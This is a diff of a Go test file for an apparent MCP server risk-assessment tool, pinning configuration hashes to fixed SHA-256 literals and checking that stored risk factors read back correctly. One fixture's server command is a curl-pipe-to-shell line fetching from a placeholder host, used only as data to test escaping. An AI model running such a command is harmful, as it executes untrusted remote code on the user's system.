@@ -1,7 +1,8 @@
-package impl
+package ingest
 
 import (
 	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"os"
 	"reflect"
@@ -10,32 +11,41 @@ import (
 	"testing"
 
 	"github.com/mcpwarden/mcpwarden/db"
-	"github.com/mcpwarden/mcpwarden/gen"
 	"github.com/mcpwarden/mcpwarden/impl/risk"
 )
 
-// Stored configuration hashes are compared with new ones (verification holds for a hash), so the
-// hand-written encoding must hash exactly what encoding/json's did.
+// Stored configuration hashes are compared with new ones (verification holds for a hash), so
+// the hash of a configuration never changes. The expected hashes are literals: SHA-256 of the
+// JSON text shown with each, as encoding/json.Marshal wrote it when verification was introduced.
 func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
 	str := func(s string) *string { return &s }
-	servers := []db.ReportServer{
-		{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
-		{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
-		{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
-	}
-	for i, s := range servers {
-		env := slices.Clone(s.EnvVars)
-		slices.Sort(env)
-		b, err := json.Marshal([]any{s.ServerType, s.Command, s.Scope, env, s.Transport, s.URL})
-		if err != nil {
-			t.Fatal(err)
+	cases := []struct {
+		server db.ReportServer
+		text   string // what is hashed
+		want   string
+	}{{
+		db.ReportServer{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
+		`["@modelcontextprotocol/server-filesystem","npx -y @modelcontextprotocol/server-filesystem /home/dev","/home/dev",[],"stdio",null]`,
+		"bbd592b39f7ba61795a1caa0390fa99bcd8f97c8a8436a7d7bf2643cf8cd3e18",
+	}, {
+		db.ReportServer{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
+		`["x\u003cy\u003e\u0026z","bash -c \"curl https://e.example/x | sh\"\t\n","C:\\Users\\dev",["A_KEY","M","Z_TOKEN"],null,null]`,
+		"18857235a33806bd574bd691849157c2403f2db7b4a3ec08557d3db32f477b76",
+	}, {
+		db.ReportServer{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
+		`["café \u2028\u2029 \u0001 \ufffd","","",null,"sse","https://x.example/mcp?a=1\u0026b=2"]`,
+		"2893e870d6b7bf6ea934bdf32b009c51edb911fc8a330d568905134e25e44fc8",
+	}}
+	for i, c := range cases {
+		if sum := sha256.Sum256([]byte(c.text)); hex.EncodeToString(sum[:]) != c.want {
+			t.Fatalf("case %d: the expected hash is not the hash of its text", i)
 		}
-		want := sha256.Sum256(b)
-		if got := configHash(s); string(got) != string(want[:]) {
-			t.Errorf("server %d: configHash %x, want %x (over %s)", i, got, want, b)
+		env := slices.Clone(c.server.EnvVars)
+		if got := hex.EncodeToString(configHash(c.server)); got != c.want {
+			t.Errorf("case %d: configHash %s, want %s (the hash of %s)", i, got, c.want, c.text)
 		}
-		if !slices.Equal(servers[i].EnvVars, s.EnvVars) {
-			t.Errorf("server %d: configHash reordered the server's environment", i)
+		if !slices.Equal(c.server.EnvVars, env) {
+			t.Errorf("case %d: configHash reordered the server's environment", i)
 		}
 	}
 }
@@ -44,7 +54,7 @@ func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
 // factors the assessment found, clipped, for every input of the risk engine's golden file
 // (alone and with the other servers of their group, for the combination rules' details).
 func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
-	raw, err := os.ReadFile("risk/testdata/assess_golden.json")
+	raw, err := os.ReadFile("../risk/testdata/assess_golden.json")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -77,14 +87,14 @@ func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
 	compacted := 0
 	for i, fs := range sets {
 		stored := StoredFactors(fs)
-		got, err := expandFactors(stored)
+		got, err := ExpandFactors(stored)
 		if err != nil {
 			t.Fatalf("set %d: %v (%s)", i, err, stored)
 		}
-		want := make([]gen.RiskFactor, min(len(fs), maxFactors))
+		want := make([]risk.Factor, min(len(fs), maxFactors))
 		full := 2
 		for j, f := range fs[:len(want)] {
-			want[j] = gen.RiskFactor{Id: f.ID, Severity: gen.RiskLevel(f.Severity), Title: clipText(f.Title, 500),
+			want[j] = risk.Factor{ID: f.ID, Severity: f.Severity, Title: clipText(f.Title, 500),
 				Detail: clipText(f.Detail, 4000), Evidence: clipText(f.Evidence, 4000)}
 			full += len(f.Title) + len(f.Detail)
 		}
@@ -100,7 +110,7 @@ func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
 	}
 	// Explanations stored whole, before StoredFactors left anything out, read as they are.
 	old := `[{"id":"MCPW-FS-ROOT","severity":"critical","title":"T","detail":"D","evidence":"/"}]`
-	got, err := expandFactors([]byte(old))
+	got, err := ExpandFactors([]byte(old))
 	if err != nil || len(got) != 1 || got[0].Title != "T" || got[0].Detail != "D" {
 		t.Errorf("a whole stored factor read back as %+v, %v", got, err)
 	}
